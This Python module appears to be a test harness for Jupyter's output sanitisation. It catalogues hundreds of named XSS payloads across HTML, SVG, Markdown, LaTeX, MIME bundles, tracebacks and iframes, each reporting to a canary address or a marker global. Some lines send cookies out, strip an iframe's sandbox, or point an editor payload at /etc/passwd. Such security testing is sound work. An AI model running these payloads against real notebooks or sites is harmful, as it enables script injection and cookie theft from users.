"""Roads by which the output of a cell could reach the page: each would leave its name in it, or ask a server for it.

A road is the source of a cell. ``JS`` in it stands for a script that notes the road's name in ``window.__pwned``,
``URL`` for an address of the canary that holds the name, ``PATH`` for one of the Jupyter server itself.
"""

import re
from dataclasses import dataclass

PRELUDE = "from IPython.display import *\nfrom IPython.display import publish_display_data\n"
PREFIX = "road-"


@dataclass(frozen=True)
class Road:
    """The source of a cell and what it is called."""

    name: str
    source: str

    def cell(self, canary):
        """Return the cell with the script and the addresses put in."""
        name = PREFIX + self.name
        words = {
            "JS": f"window.__pwned+=/.{self.name}/.source",  # without quotes: it stands in strings of every kind
            "URL": f"{canary}/{name}",
            "PATH": f"/{name}",
        }
        return PRELUDE + re.sub(r"\b(JS|URL|PATH)\b", lambda match: words[match[0]], self.source)


def bundle(mime, data, **metadata):
    """Return a cell that displays one MIME type beside its text."""
    return f"display({{'text/plain': 'text', {mime!r}: {data!r}}}, raw=True, metadata={{{mime!r}: {metadata!r}}})"


HTML = {
    "script": "<script>JS</script>",
    "script-source": "<script src='URL.js'></script>",
    "script-module": "<script type='module'>JS</script>",
    "script-in-template": "<template><script>JS</script></template>",
    "script-nested": "<scr<script>ipt>JS</scr</script>ipt>",
    "img-onerror": '<img src="x:" onerror="JS">',
    "img-onerror-bare": "<img/src=x:/onerror=JS>",
    "svg-onload": '<svg onload="JS"></svg>',
    "svg-script": "<svg><script>JS</script></svg>",
    "svg-animate": '<svg><animate onbegin="JS" attributeName="x" dur="1s"/></svg>',
    "svg-set-href": "<svg><a><set attributeName='href' to='javascript:void(JS)'/><text y='20'>click</text></a></svg>",
    "svg-image": "<svg><image href='URL'/></svg>",
    "svg-use": "<svg><use href='URL#x'/></svg>",
    "svg-foreign": '<svg><foreignObject><img src="x:" onerror="JS"></foreignObject></svg>',
    "math-link": "<math><mtext href='javascript:void(JS)'>click</mtext></math>",
    "frame-srcdoc": '<iframe srcdoc="<script>parent.JS</script>"></iframe>',
    "frame-javascript": '<iframe src="javascript:void(parent.JS)"></iframe>',
    "frame-source": "<iframe src='URL'></iframe>",
    "frame-data": "<iframe src='data:text/html,<script>fetch(`URL`)</script>'></iframe>",
    "frame-of-server": "<iframe src='PATH'></iframe>",
    "object": "<object data='URL'></object>",
    "object-data": "<object data='data:text/html,<script>fetch(`URL`)</script>'></object>",
    "embed": "<embed src='URL'>",
    "form-javascript": "<form action='javascript:void(JS)'><button>click</button></form>",
    "form-action": "<form action='URL' method='post' target='nowhere'><button>click</button></form>",
    "form-of-server": "<form action='PATH' method='post' target='nowhere'><button>click</button></form>",
    "button-formaction": "<form><button formaction='javascript:void(JS)'>click</button></form>",
    "button-onclick": '<button onclick="JS">click</button>',
    "autofocus": '<input autofocus onfocus="JS">',
    "input-image": "<input type='image' src='URL'>",
    "base": "<base href='URL/'><img src='relative'>",
    "style-import": "<style>@import url(URL);</style>",
    "style-url": "<style>body { background: url(URL) }</style>",
    "style-font": "<style>@font-face { font-family: x; src: url(URL) } body { font-family: x }</style>",
    "style-attribute": "<div style='background: url(URL)'>text</div>",
    "style-attribute-escaped": "<div style='background: u\\72l(URL)'>text</div>",
    "style-image-set": "<div style='background-image: image-set(\"URL\" 1x)'>text</div>",
    "style-list": "<ul style='list-style: url(URL)'><li>text</ul>",
    "style-cursor": "<div style='cursor: url(URL), auto'>text</div>",
    "style-variable": "<div style='--a: url(URL); background: var(--a)'>text</div>",
    "link-stylesheet": "<link rel='stylesheet' href='URL'>",
    "link-prefetch": "<link rel='prefetch' href='URL'>",
    "link-preload": "<link rel='preload' as='image' href='URL'>",
    "link-manifest": "<link rel='icon' href='URL'>",
    "link-import-map": "<script type='importmap'>{}</script><link rel='modulepreload' href='URL.js'>",
    "img": "<img src='URL'>",
    "img-of-server": "<img src='PATH'>",
    "img-of-contents": "<img src='road-img-of-contents.png'>",
    "img-srcset": "<img srcset='URL 1x'>",
    "img-lazy": "<img loading='lazy' src='URL'>",
    "img-protocol-relative": "<img src='//127.0.0.1:9/road-img-protocol-relative'>",
    "picture": "<picture><source srcset='URL'><img></picture>",
    "video": "<video src='URL' autoplay></video>",
    "video-poster": "<video poster='URL'></video>",
    "video-onerror": '<video><source src="x:" onerror="JS"></video>',
    "audio": "<audio src='URL' autoplay></audio>",
    "track": "<video controls><track default src='URL'></video>",
    "table-background": "<table background='URL'><tr><td background='URL'>text</table>",
    "body-background": "<body background='URL' onload=\"JS\">",
    "details": '<details open ontoggle="JS">text</details>',
    "marquee": '<marquee onstart="JS">text</marquee>',
    "hover": '<b onmouseover="JS">text</b>',
    "animation": '<style>@keyframes k{}</style><b style="animation: k 1s" onanimationstart="JS">text</b>',
    "link-javascript": "<a href='javascript:void(JS)'>click</a>",
    "link-javascript-entity": "<a href='javascript&colon;void(JS)'>click</a>",
    "link-javascript-tab": "<a href='java&#9;script:void(JS)'>click</a>",
    "link-javascript-control": "<a href='&#1;javascript:void(JS)'>click</a>",
    "link-data": "<a href='data:text/html,<script>fetch(`URL`)</script>' target='_self'>click</a>",
    "link-ping": "<a href='#' ping='URL'>click</a>",
    "link-of-server": "<a href='PATH' target='_self'>click</a>",
    "area": "<map name='m'><area href='javascript:void(JS)' coords='0,0,9,9'></map>",
    "command": "<b data-commandlinker-command='notebook:insert-cell-below' data-commandlinker-args='{}'>click</b>",
    "command-link": "<a data-commandlinker-command='notebook:insert-cell-above' href='#'>click</a>",
    "clobber": "<a id='__pwned' name='__pwned'>text</a>",
    "clobber-configuration": "<script id='jupyter-config-data' type='application/json'>{}</script>",
    "covers-the-page": "<div class='jp-Dialog' style='position: fixed; inset: 0; z-index: 99999'>text</div>",
    "mutation-noscript": '<noscript><p title="</noscript><img src=x: onerror=JS>">',
    "mutation-style": '<svg></p><style><a id="</style><img src=x: onerror=JS>">',
    "mutation-mglyph": '<math><mtext><table><mglyph><style><!--</style><b title="--&gt;&lt;img src=x: onerror=JS&gt;">',
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=JS>",
    "mutation-title": "<svg><title><style><img src=x: onerror=JS></style></title></svg>",
    "mutation-xmp": '<xmp><p title="</xmp><img src=x: onerror=JS>">',
    "mutation-textarea": '<textarea><p title="</textarea><img src=x: onerror=JS>"></textarea>',
    "mutation-comment": "<!--><img src=x: onerror=JS>-->",
    "mutation-comment-bang": "<!-- --!><img src=x: onerror=JS> -->",
    "mutation-instruction": "<?xml ><img src=x: onerror=JS> ?>",
    "mutation-cdata": "<svg><![CDATA[><img src=x: onerror=JS>]]></svg>",
    "mutation-annotation": '<math><annotation-xml encoding="text/html"><img src=x: onerror=JS></annotation-xml></math>',
    "mutation-select": "<select><template><style><!--</style><a title='--><img src=x: onerror=JS>'></template>",
    "math": "$\\href{javascript:void(JS)}{click}$ $\\style{background:url(URL)}{x}$",
    "math-display": "\\[\\href{javascript:void(JS)}{click}\\] $$\\bbox[background:url(URL)]{x}$$",
    "math-environment": "\\begin{equation}\\href{javascript:void(JS)}{click}\\end{equation}",
    "math-entity": "&#36;&#92;href{javascript:void(JS)}{click}&#36;",
    "math-attribute": "<p title='$\\href{javascript:void(JS)}{}$'>$\\hr<!-- -->ef{javascript:void(JS)}{click}$</p>",
    "nul": "<im\0g src=x: onerror=JS><img src=x: on\0error=JS>",
    "long": "<b>" * 3000 + "<img src=x: onerror=JS>",
}

SVG = {
    "script": "<svg xmlns='http://www.w3.org/2000/svg'><script>JS</script></svg>",
    "onload": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"JS\"></svg>",
    "image": "<svg xmlns='http://www.w3.org/2000/svg'><image href='URL' width='9' height='9'/></svg>",
    "style": "<svg xmlns='http://www.w3.org/2000/svg'><style>@import url(URL);</style></svg>",
    "out-of-attribute": '"><img src="x:" onerror="JS">',
    "html": "<img src=x: onerror=JS>",
    "style-sheet": "<?xml-stylesheet href='URL'?><svg xmlns='http://www.w3.org/2000/svg'></svg>",
    "entity": "<!DOCTYPE svg [<!ENTITY x SYSTEM 'URL'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>",
}

MARKDOWN = {
    "img-onerror": '<img src="x:" onerror="JS">',
    "script": "<script>JS</script>",
    "link": "[click](javascript:void(JS))",
    "link-entity": "[click](javascript&#58;void(JS))",
    "link-case": "[click](JaVaScRiPt:void(JS))",
    "link-newline": "[click](<java\nscript:void(JS)>)",
    "link-reference": "[click][a]\n\n[a]: javascript:void(JS)",
    "link-automatic": "<javascript:void(JS)>",
    "link-data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "image": "![text](URL)",
    "image-of-server": "![text](PATH)",
    "image-of-contents": "![text](road-markdown-image-of-contents.png)",
    "image-reference": "![text][a]\n\n[a]: URL",
    "image-title": "![text](x: 'a\" onerror=\"JS')",
    "alternative-text": '![a" onerror="JS](x:)',
    "table": "| a |\n|---|\n| <img src=x: onerror=JS> |",
    "code-language": '```"><img/src=x:/onerror=JS>\ncode\n```',
    "mermaid-link": '```mermaid\ngraph LR\nA-->B\nclick A href "javascript:void(JS)"\n```',
    "mermaid-label": '```mermaid\ngraph LR\nA["<img src=x: onerror=JS>"]-->B\n```',
    "mermaid-image": "```mermaid\ngraph LR\nA[\"<img src='URL'>\"]-->B\n```",
    "mermaid-style": "```mermaid\n%%{init: {'themeCSS': '@import url(URL);'}}%%\ngraph LR\nA-->B\n```",
    "math-link": "$\\href{javascript:void(JS)}{click}$",
    "math-html": "$\\text{<img src=x: onerror=JS>}$",
}

LATEX = {
    "link": "$\\href{javascript:void(JS)}{click}$",
    "link-display": "$$\\href{javascript:void(JS)}{click}$$",
    "link-environment": "\\begin{equation}\\href{javascript:void(JS)}{click}\\end{equation}",
    "link-defined": "$\\def\\a{\\href}\\a{javascript:void(JS)}{click}$",
    "link-let": "$\\let\\a=\\href \\a{javascript:void(JS)}{click}$",
    "link-csname": "$\\csname href\\endcsname{javascript:void(JS)}{click}$",
    "link-required": "$\\require{html}\\href{javascript:void(JS)}{click}$",
    "style": "$\\style{background:url(URL)}{x}$",
    "box": "$\\bbox[background:url(URL)]{x}$",
    "class": "$\\class{jp-Dialog}{x}$",
    "identity": "$\\cssId{__pwned}{x}$",
    "token": '$\\mmlToken{mtext}[href="javascript:void(JS)"]{click}$',
    "picture": "$\\includegraphics{URL}$",
    "unicode": "$\\unicode[x;background:url(URL)]{65}$",
    "html": "<img src=x: onerror=JS>",
    "html-in-text": "$\\text{<img src=x: onerror=JS>}$",
    "data": "$\\data{commandlinker-command=notebook:insert-cell-below}{click}$",
}

_VIEW = {"model_id": "abc", "version_major": 2, "version_minor": 0}
_VEGA = {
    "$schema": "https://vega.github.io/schema/vega/v5.json",
    "data": [{"name": "t", "url": "URL"}],
    "marks": [{"type": "image", "encode": {"enter": {"url": {"value": "URL"}, "width": {"value": 9}}}}],
    "signals": [{"name": "s", "update": "open('URL')"}],
}
_VEGALITE = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
    "data": {"url": "URL"},
    "mark": {"type": "point", "href": "javascript:void(JS)"},
    "encoding": {"x": {"field": "a"}},
}
_PLOTLY = {"data": [], "layout": {"title": "<a href='javascript:void(JS)'>x</a>", "images": [{"source": "URL"}]}}
_FEATURE = {"type": "Feature", "properties": {"url": "URL"}, "geometry": {"type": "Point", "coordinates": [0, 0]}}
_STDERR = "<img src=x: onerror=JS>"

BUNDLES = {
    "javascript": bundle("application/javascript", "JS"),
    "javascript-text": bundle("text/javascript", "JS"),
    "javascript-x": bundle("application/x-javascript", "JS"),
    "javascript-list": bundle("application/javascript", ["JS"]),
    "widget-view": bundle("application/vnd.jupyter.widget-view+json", _VIEW),
    "widget-state": bundle(
        "application/vnd.jupyter.widget-state+json", {"state": {"abc": {"model_name": "HTMLModel"}}}
    ),
    "vega": bundle("application/vnd.vega.v5+json", _VEGA),
    "vega-6": bundle("application/vnd.vega.v6+json", _VEGA),
    "vegalite": bundle("application/vnd.vegalite.v5+json", _VEGALITE),
    "vegalite-6": bundle("application/vnd.vegalite.v6+json", _VEGALITE),
    "plotly": bundle("application/vnd.plotly.v1+json", _PLOTLY),
    "geojson": bundle("application/geo+json", _FEATURE, url_template="URL"),
    "mermaid": bundle("text/vnd.mermaid", 'graph LR\nA["<img src=\'URL\'>"]-->B\nclick A href "javascript:void(JS)"'),
    "bokeh": bundle("application/vnd.bokehjs_exec.v0+json", "JS"),
    "stderr": bundle("application/vnd.jupyter.stderr", _STDERR),
    "stdout": bundle("application/vnd.jupyter.stdout", _STDERR),
    "error": bundle("application/vnd.jupyter.error", {"ename": _STDERR, "evalue": _STDERR, "traceback": [_STDERR]}),
    "pdf": bundle("application/pdf", "JVBERi0xLjQKJSBKUw=="),
    "json-html": bundle("application/json", {"<img src=x: onerror=JS>": "<img src=x: onerror=JS>"}),
    "csv": bundle("text/csv", "a,b\n<img src=x: onerror=JS>,2"),
    "html-isolated": bundle("text/html", "<script>parent.JS</script>", isolated=True),
    "html-upper": bundle("TEXT/HTML", "<script>JS</script>"),
    "html-parameter": bundle("text/html; charset=utf-8", "<script>JS</script>"),
    "html-list": bundle("text/html", ["<scr", "ipt>JS</script>"]),
    "png-no-base64": bundle("image/png", '"><img src="x:" onerror="JS">'),
    "png-address": bundle("image/png", "URL"),
    "png-metadata": bundle("image/png", "iVBORw0KGgo=", width='1" onerror="JS', height="1 onerror=JS"),
    "gif-html": bundle("image/gif", "R0lGODlhAQABAAAAADs8c2NyaXB0Pg=="),
    "unknown": bundle("application/x-unheard-of", "<script>JS</script>"),
    "text-html": bundle("text/plain", "<img src=x: onerror=JS>"),
}

# what IPython's own classes make of an address or a script
CLASSES = {
    "Javascript": "display(Javascript('JS'))",
    "Javascript-library": "display(Javascript('1', lib=['URL.js'], css=['URL']))",
    "HTML": "display(HTML('<script>JS</script>'))",
    "SVG": "display(SVG(data='<svg xmlns=\"http://www.w3.org/2000/svg\"><script>JS</script></svg>'))",
    "Markdown": "display(Markdown('<img src=x: onerror=JS>'))",
    "Latex": "display(Latex(r'$\\href{javascript:void(JS)}{click}$'))",
    "Math": "display(Math(r'\\href{javascript:void(JS)}{click}'))",
    "Image": "display(Image(url='URL'))",
    "Image-SVG": "display(Image(url='data:image/svg+xml,<svg onload=JS>'))",
    "IFrame": "display(IFrame('URL', 100, 100))",
    "Video": "display(Video(url='URL'))",
    "Audio": "display(Audio(url='URL', autoplay=True))",
    "YouTubeVideo": "display(YouTubeVideo('road-YouTubeVideo'))",
    "FileLinks": "import os\nos.makedirs('/tmp/<img src=x: onerror=JS>')\ndisplay(FileLinks('/tmp'))",
    "Code": "display(Code('<img src=x: onerror=JS>', language='python'))",
    "Pretty": "display(Pretty('<img src=x: onerror=JS>'))",
    "ProgressBar": "display(ProgressBar('3\"><img src=x: onerror=JS>'))",
    "GeoJSON": "display(GeoJSON({'type': 'Point'}, url_template='URL', layer_options={'a': '<script>JS</script>'}))",
}

_RESULT = """
class Road:
    def {method}(self, *arguments, **keywords):
        {answer}
Road()
"""
RESULTS = {
    "html": _RESULT.format(method="_repr_html_", answer="return '<script>JS</script>'"),
    "javascript": _RESULT.format(method="_repr_javascript_", answer="return 'JS'"),
    "markdown": _RESULT.format(method="_repr_markdown_", answer="return '<img src=x: onerror=JS>'"),
    "latex": _RESULT.format(method="_repr_latex_", answer="return r'$\\href{javascript:void(JS)}{click}$'"),
    "svg": _RESULT.format(method="_repr_svg_", answer="return '<svg onload=\"JS\"></svg>'"),
    "bundle": _RESULT.format(method="_repr_mimebundle_", answer="return {'text/html': '<script>JS</script>'}"),
    "display": _RESULT.format(method="_ipython_display_", answer="display(HTML('<script>JS</script>'))"),
    "repr": _RESULT.format(method="__repr__", answer="return '<img src=x: onerror=JS>'"),
}

_FAIL = "class Road(Exception): pass\n"
TEXT = {
    "stdout": "print('<img src=x: onerror=JS>')",
    "stderr": "import sys\nprint('<img src=x: onerror=JS>', file=sys.stderr)",
    "link": r"print('\x1b]8;;javascript:void(JS)\x1b\\click\x1b]8;;\x1b\\')",
    "link-bell": r"print('\x1b]8;;javascript:void(JS)\x07click\x1b]8;;\x07')",
    "style-escape": r"print('\x1b[31\"onmouseover=\"JS\"m click \x1b[0m')",
    "address": "print('see http://a.invalid/\"onmouseover=\"JS and http://a.invalid/\\'><img/src=x:/onerror=JS>')",
    "nested-escape": r"print('\x1b[\x1b[31m<img src=x: onerror=JS>\x9b31m\x00<img src=x: onerror=JS>')",
    "message": "raise ValueError('<img src=x: onerror=JS>')",
    "message-link": r"raise ValueError('\x1b]8;;javascript:void(JS)\x1b\\click\x1b]8;;\x1b\\')",
    "class-name": "raise type('<img src=x: onerror=JS>', (Exception,), {})('bad')",
    "file-name": "exec(compile('1 / 0', '<img src=x: onerror=JS>', 'exec'))",
    "file-name-link": "exec(compile('1 / 0', 'http://a.invalid/\"onmouseover=\"JS', 'exec'))",
    "note": "error = ValueError('x')\nerror.add_note('<img src=x: onerror=JS>')\nraise error",
    "traceback": (
        "class Road(Exception):\n"
        "    def _render_traceback_(self):\n"
        "        return ['<img src=x: onerror=JS>', '\\x1b]8;;javascript:void(JS)\\x1b\\\\click\\x1b]8;;\\x1b\\\\']\n"
        "raise Road('x')"
    ),
    "exit": "import sys\nsys.exit('<img src=x: onerror=JS>')",
    "warning": "import warnings\nwarnings.warn('<img src=x: onerror=JS>')",
}

_PAYLOAD = "get_ipython().payload_manager.write_payload({payload})"
SESSION = {
    "update": "update_display(HTML('<script>JS</script>'), display_id='victim')",
    "update-raw": ("publish_display_data({'text/html': 'changed'}, transient={'display_id': 'victim'}, update=True)"),
    "same-id": "display(HTML('<script>JS</script>'), display_id='victim')",
    "next-input": "get_ipython().set_next_input('print(\"JS\")')",
    "next-input-replace": "get_ipython().set_next_input('print(\"JS\")', replace=True)",
    "payload-input": _PAYLOAD.format(payload="{'source': 'set_next_input', 'text': 'JS', 'replace': False}"),
    "payload-page": _PAYLOAD.format(payload="{'source': 'page', 'data': {'text/html': '<script>JS</script>'}}"),
    "payload-edit": _PAYLOAD.format(payload="{'source': 'edit_magic', 'filename': '/etc/passwd', 'line_number': 1}"),
    "payload-exit": _PAYLOAD.format(payload="{'source': 'ask_exit', 'keepkernel': False}"),
    "exit": "get_ipython().ask_exit()",
    "page": "from IPython.core.page import page\npage({'data': {'text/html': '<script>JS</script>'}})",
    "comm": (
        "from comm import create_comm\n"
        "create_comm(target_name='jupyter.widget', data={'state': {'_model_module': 'URL', '_model_name': 'X'}})"
    ),
    "comm-kernel": "get_ipython().kernel.comm_manager.register_target('x', print)",
    "kernel-app": "from ipykernel.kernelapp import IPKernelApp\nprint(IPKernelApp.instance().connection_file)",
    "clear": "clear_output()",
    "clear-wait": "clear_output(wait=True)",
    "metadata": "display({'text/plain': 'x'}, raw=True, metadata={'tags': ['JS'], 'JS': '<script>JS</script>'})",
    "many": 'for number in range(300):\n    display(HTML(f\'<img id={number} src="x:" onerror="JS">\'))',
}

# scripts that run in the frame of ``--html iframe`` and try to leave it
FRAME = {
    "parent": "parent.JS",
    "top": "top.JS",
    "parent-document": "parent.document.body.innerHTML = ''",
    "outer-frame": "parent.document.querySelector('iframe').removeAttribute('sandbox')",
    "storage": "localStorage.setItem('road', '1')",
    "cookie": "document.cookie = 'road=1; path=/'; fetch('URL?' + document.cookie)",
    "server": "fetch('PATH', {method: 'POST', mode: 'no-cors', credentials: 'include'})",
    "fetch": "fetch('URL', {mode: 'no-cors'})",
    "request": "const request = new XMLHttpRequest(); request.open('GET', 'URL'); request.send()",
    "image": "new Image().src = 'URL'",
    "beacon": "navigator.sendBeacon('URL', 'x')",
    "events": "new EventSource('URL')",
    "socket": "new WebSocket('URL'.replace('http', 'ws'))",
    "style": "document.head.append(Object.assign(document.createElement('style'), {textContent: '@import url(URL);'}))",
    "font": "new FontFace('x', 'url(URL)').load().catch(() => 0)",
    "import": "import('URL.js').catch(() => 0)",
    "script": "document.head.append(Object.assign(document.createElement('script'), {src: 'URL.js'}))",
    "worker": "new Worker(URL_.createObjectURL(new Blob(['fetch(`URL`)'])))".replace("URL_", "window['U' + 'RL']"),
    "prefetch": "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: 'URL'}))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'URL'}))",
    "frame-script": "document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: '<img src=URL>'}))",
    "location": "location.href = 'URL'",
    "location-parent": "parent.location.href = 'URL'",
    "location-top": "top.location.href = 'URL'",
    "refresh": "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv='refresh' content='0;url=URL'>`)",
    "form": "document.body.insertAdjacentHTML('beforeend', `<form action='URL'></form>`); document.forms[0].submit()",
    "window": "window.open('URL')",
    "link-top": "Object.assign(document.createElement('a'), {href: 'URL', target: '_top'}).click()",
    "link-blank": "Object.assign(document.createElement('a'), {href: 'URL', target: '_blank'}).click()",
    "download": "Object.assign(document.createElement('a'), {href: 'URL', download: 'x'}).click()",
    "dialog": "alert('JS'); confirm('x'); print()",
    "fullscreen": "document.documentElement.requestFullscreen().catch(() => 0)",
    "message": "top.postMessage({road: 'JS'}, '*'); parent.postMessage('JS', '*')",
    "peer": "new RTCPeerConnection({iceServers: [{urls: 'stun:' + 'URL'.split('/')[2]}]}).createDataChannel('x')",
}
_RUNS = "<b>text</b><script>try {{ {script} }} catch (error) {{ }}; document.body.append('ran {name}')</script>"

FAMILIES = {
    "html": {name: bundle("text/html", text) for name, text in HTML.items()},
    "svg": {name: bundle("image/svg+xml", text) for name, text in SVG.items()},
    "markdown": {name: bundle("text/markdown", text) for name, text in MARKDOWN.items()},
    "latex": {name: bundle("text/latex", text) for name, text in LATEX.items()},
    "bundle": BUNDLES,
    "class": CLASSES,
    "result": RESULTS,
    "text": TEXT,
    "session": SESSION,
    "frame": {name: bundle("text/html", _RUNS.format(script=script, name=name)) for name, script in FRAME.items()},
}


def roads(family):
    """Return the roads of a family."""
    return [Road(f"{family}-{name}", source) for name, source in FAMILIES[family].items()]
